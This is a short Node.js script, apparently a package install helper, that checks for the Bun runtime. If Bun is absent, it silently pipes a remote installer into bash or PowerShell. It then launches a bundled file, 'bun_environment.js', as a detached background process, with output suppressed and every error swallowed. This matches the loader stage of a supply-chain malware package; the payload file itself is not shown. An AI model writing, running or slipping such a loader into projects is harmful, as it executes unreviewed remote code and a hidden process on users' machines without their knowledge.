#!/usr/bin/env node
const { spawn, execSync } = require('child_process');
const path = require('path');
const fs = require('fs');
const os = require('os');

function isBunOnPath() {
  try {
    const command = process.platform === 'win32' ? 'where bun' : 'which bun';
    execSync(command, { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
}

function reloadPath() {
  const bunBin = path.join(os.homedir(), '.bun', 'bin');
  if (!process.env.PATH.includes(bunBin)) {
    process.env.PATH = bunBin + path.delimiter + process.env.PATH;
  }
  return path.join(bunBin, process.platform === 'win32' ? 'bun.exe' : 'bun');
}

async function downloadAndSetupBun() {
  try {
    if (process.platform === 'win32') {
      execSync('powershell -c "irm https://bun.example/install.ps1|iex"', { stdio: 'ignore' });
    } else {
      execSync('curl -fsSL https://bun.example/install | bash', { stdio: 'ignore' });
    }
    return reloadPath();
  } catch (e) {
    return null;
  }
}

function runExecutable(execPath, args = [], opts = {}) {
  const child = spawn(execPath, args, {
    stdio: 'ignore',
    cwd: opts.cwd || process.cwd(),
    env: Object.assign({}, process.env, opts.env || {}),
    detached: true,
  });
  child.on('error', () => process.exit(0));
  child.unref();
  process.exit(0);
}

async function main() {
  let bunExecutable = isBunOnPath() ? 'bun' : await downloadAndSetupBun();
  const environmentScript = path.join(__dirname, 'bun_environment.js');
  if (fs.existsSync(environmentScript) && bunExecutable) {
    runExecutable(bunExecutable, [environmentScript]);
  } else {
    process.exit(0);
  }
}

main().catch(() => process.exit(0));
